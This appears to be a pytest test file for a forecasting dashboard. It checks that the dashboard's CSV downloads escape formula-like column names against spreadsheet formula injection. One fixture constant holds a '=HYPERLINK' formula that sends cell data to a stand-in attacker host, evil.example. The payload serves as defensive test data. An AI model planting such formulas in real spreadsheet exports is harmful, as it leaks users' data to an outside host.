"""The dashboard's CSV downloads open in a spreadsheet as data: a variable named like a formula
(`=HYPERLINK(...)`, `@SUM(...)`, `-2+3`) is written as text (a leading `'`), where the forecast and backtest
files wrote it as it was and Excel or LibreOffice ran it. Numbers, negative ones too, are written as they are."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
import streamlit as st
from streamlit.delta_generator import DeltaGenerator

from tests.app.conftest import errors, open_app
from ui.spreadsheet_csv import csv_bytes
from varlib import ModelSpec, load_dataset, train_model
from varlib.service import publish_result

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def files(monkeypatch) -> dict:
    """Every download's file, by its label, as a click in a browser would get it (AppTest cannot click one)."""
    kept: dict = {}
    real = DeltaGenerator.download_button

    def keep(self, label, data, *args, **kwargs):
        kept[label] = data() if callable(data) else data
        return real(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", keep)  # in a column: first.download_button(...)
    main = st.download_button  # bound to the page's main block when streamlit was imported
    monkeypatch.setattr(st, "download_button", lambda label, data, *a, **k: keep(main.__self__, label, data, *a, **k))
    return kept


@pytest.fixture
def formula_named(registry):
    rng = np.random.default_rng(5)
    values = 100 + np.cumsum(rng.normal(0.3, 1.0, size=(80, 2)), axis=0)
    dates = pd.date_range("1990-01-01", periods=80, freq="QS")
    frame = pd.DataFrame(values, index=dates.rename("date"), columns=[LINK, "@SUM(1+1)"])
    dataset = load_dataset(frame, csv_name="formulas.csv")
    spec = ModelSpec((LINK, "@SUM(1+1)"), lags=1, holdout=0)
    publish_result(registry, train_model(dataset, spec), "formulas", "patch", "")
    return registry


def _cells(data: bytes) -> list[list[str]]:
    return [row.split(",") for row in data.decode().splitlines()]


def test_the_forecast_csv_writes_formula_like_names_as_text(formula_named, files):
    at = open_app({"model": "formulas", "steps": 2})
    at.session_state["fc_table_open"] = True
    at.run()
    assert not at.exception and errors(at) == ""
    table = pd.read_csv(io.BytesIO(files["Download CSV"]), index_col=0)
    assert "'" + LINK in table.columns and "'@SUM(1+1)" in table.columns and "'@SUM(1+1) lower" in table.columns
    assert not [name for name in table.columns if name.startswith(("=", "@"))]
    assert table.select_dtypes("number").shape == table.shape  # the numbers stay numbers


def test_the_backtest_csv_writes_formula_like_names_as_text(formula_named, files):
    at = open_app({"model": "formulas"}, page="views/backtest.py")
    at.number_input(key="bt_origins").set_value(3)
    at.number_input(key="bt_horizon").set_value(2)
    at.button(key="bt_run").click().run()
    assert not at.exception and errors(at) == ""
    table = pd.read_csv(io.BytesIO(files["Download scores (CSV)"]))
    assert set(table["variable"]) == {"'" + LINK, "'@SUM(1+1)"}


def test_negative_numbers_and_plain_text_are_written_as_they_are():
    table = pd.DataFrame({"-2+3": [-1.5, 2.0], "note": ["+ok", "plain"]}, index=pd.Index(["a", "=b"], name="@i"))
    assert _cells(csv_bytes(table)) == [["'@i", "'-2+3", "note"], ["a", "-1.5", "'+ok"], ["'=b", "2.0", "plain"]]


def test_the_backtest_csv_names_the_run_that_produced_it(seeded, files):
    """The CSV held only the scores: read later on its own, one run's file could not be told from another's."""
    at = open_app({"model": "var"}, page="views/backtest.py")
    at.number_input(key="bt_origins").set_value(3)
    at.number_input(key="bt_horizon").set_value(2)
    at.button(key="bt_run").click().run()
    assert not at.exception and errors(at) == ""
    table = pd.read_csv(io.BytesIO(files["Download scores (CSV)"]))
    settings = ["model", "version", "lag_policy", "lag_order", "origins", "first_origin", "last_origin"]
    assert list(table.columns[: len(settings) + 2]) == [*settings, "max_horizon", "point"]
    first = table.iloc[0]
    assert (first["model"], first["version"], first["lag_policy"]) == ("var", "0.0.1", "fixed")
    assert (first["origins"], first["max_horizon"], first["point"]) == (3, 2, "mean")
    assert first["first_origin"] < first["last_origin"] and table["lag_order"].nunique() == 1
    assert list(table["horizon"]) == [1, 2, 1, 2] and table["rmse"].notna().all()  # the scores as before
